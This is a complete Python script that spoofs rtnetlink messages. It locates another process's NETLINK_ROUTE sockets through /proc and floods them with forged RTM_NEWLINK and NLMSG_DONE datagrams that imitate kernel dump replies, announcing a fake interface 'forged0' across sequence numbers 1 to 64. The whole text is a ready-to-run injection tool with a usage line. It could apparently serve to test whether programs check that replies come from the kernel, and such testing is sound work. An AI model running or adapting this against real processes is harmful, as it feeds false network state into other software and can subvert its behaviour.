#!/usr/bin/env python3
# Forged rtnetlink messages from a userspace socket, sent to every
# NETLINK_ROUTE socket of a process (found through /proc/PID/fd and
# /proc/net/netlink of the caller's namespace): RTM_NEWLINK of a made-up
# interface and NLMSG_DONE, for every sequence number from 1 to 64, shaped
# like dump replies.  Usage: nl-forge.py PID COPIES.  Prints the number of
# sockets, of datagrams sent, of datagrams the kernel refused
# (ECONNREFUSED: a socket connected to the kernel), and the port ids.
import os
import socket
import struct
import sys

RTM_NEWLINK, NLMSG_DONE, NLM_F_MULTI, IFLA_IFNAME, IFLA_MTU = 16, 3, 2, 3, 4
IFF_UP, IFF_RUNNING = 0x1, 0x40
FORGED_INDEX, FORGED_NAME = 9999, b"forged0"


def portids(pid):
    inodes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(int(target[8:-1]))
    found = []
    with open("/proc/net/netlink") as f:
        next(f)
        for line in f:
            col = line.split()
            if int(col[1]) == socket.NETLINK_ROUTE and int(col[-1]) in inodes:
                found.append(int(col[2]))
    return found


def attr(kind, payload):
    a = struct.pack("=HH", 4 + len(payload), kind) + payload
    return a + b"\0" * (-len(a) % 4)


def msg(kind, flags, seq, portid, payload):
    return struct.pack("=IHHII", 16 + len(payload), kind, flags, seq, portid) + payload


def datagram(portid):
    out = b""
    for seq in range(1, 65):
        ifi = struct.pack("=BxHiII", socket.AF_UNSPEC, 1, FORGED_INDEX, IFF_UP | IFF_RUNNING, 0)
        body = ifi + attr(IFLA_IFNAME, FORGED_NAME + b"\0") + attr(IFLA_MTU, struct.pack("=I", 1500))
        out += msg(RTM_NEWLINK, NLM_F_MULTI, seq, portid, body)
        out += msg(NLMSG_DONE, NLM_F_MULTI, seq, portid, struct.pack("=i", 0))
    return out


def main():
    pid, copies = int(sys.argv[1]), int(sys.argv[2])
    ports = portids(pid)
    if not ports:
        sys.exit(f"no NETLINK_ROUTE socket of pid {pid} in this namespace")
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    s.bind((0, 0))
    sent = refused = 0
    for port in ports:
        for _ in range(copies):
            try:
                s.sendto(datagram(port), (port, 0))
                sent += 1
            except ConnectionRefusedError:
                refused += 1  # the socket is connected to the kernel
    print(len(ports), sent, refused, " ".join(str(p) for p in ports))


main()
